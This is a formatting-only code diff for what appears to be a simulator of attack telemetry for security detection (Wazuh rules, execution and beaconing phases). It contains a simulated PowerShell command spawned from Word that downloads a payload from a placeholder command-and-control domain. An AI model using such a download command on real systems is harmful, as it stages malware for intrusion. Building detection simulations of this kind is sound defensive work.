@@ -113,9 +113,7 @@ _SCRIPT_ADDED = HostRule(
     ("syscheck", "web"),
     ("T1505.003",),
 )
-_DOCUMENT_ADDED = HostRule(
-    "100222", 7, "File added below the web server's upload folder", ("syscheck", "web")
-)
+_DOCUMENT_ADDED = HostRule("100222", 7, "File added below the web server's upload folder", ("syscheck", "web"))
 _OFFICE_SHELL = HostRule(
     "100301",
     13,
@@ -257,16 +255,10 @@ def _execution(cast: Cast, sensors: Sensors) -> Iterator[Step]:
     act = Act("execution", sensors)
     workstation, user = cast.victim.host, domain_user(cast.victim)
     library, source = implant_path(cast), f"/assets/{cast.token}/prefetch.bin"
-    word = Process(
-        WINWORD, f'"WINWORD.EXE" /n "C:\\Users\\{cast.victim.user}\\Downloads\\{cast.lure}"', 5_128
-    )
-    shell = Process(
-        POWERSHELL, _encoded(f"iwr http://{cast.c2_domain}{source} -OutFile $env:LOCALAPPDATA"), 6_884
-    )
+    word = Process(WINWORD, f'"WINWORD.EXE" /n "C:\\Users\\{cast.victim.user}\\Downloads\\{cast.lure}"', 5_128)
+    shell = Process(POWERSHELL, _encoded(f"iwr http://{cast.c2_domain}{source} -OutFile $env:LOCALAPPDATA"), 6_884)
     started = sensors.hosts.process_started
-    yield act.wazuh(
-        79.0, started, host=workstation, rule=_OFFICE_SHELL, process=shell, parent=word, user=user
-    )
+    yield act.wazuh(79.0, started, host=workstation, rule=_OFFICE_SHELL, process=shell, parent=word, user=user)
     fetch = http(
         host=cast.c2_domain,
         url=source,
@@ -332,9 +324,7 @@ def _beaconing(cast: Cast, sensors: Sensors, pick: Random) -> Iterator[Step]:
     """Check-ins with little jitter and even volumes; at times by DNS too, and a longer answer brings work."""
     act = Act("beaconing", sensors)
     minute = FIRST_CHECK_IN
-    implant = tls(
-        sni=cast.c2_domain, subject=f"CN={cast.c2_domain}", issuer=f"CN={cast.c2_domain}", client="implant"
-    )
+    implant = tls(sni=cast.c2_domain, subject=f"CN={cast.c2_domain}", issuer=f"CN={cast.c2_domain}", client="implant")
     for number in range(CHECK_INS):
         talk = Conversation(
             cast.victim.host.ip,
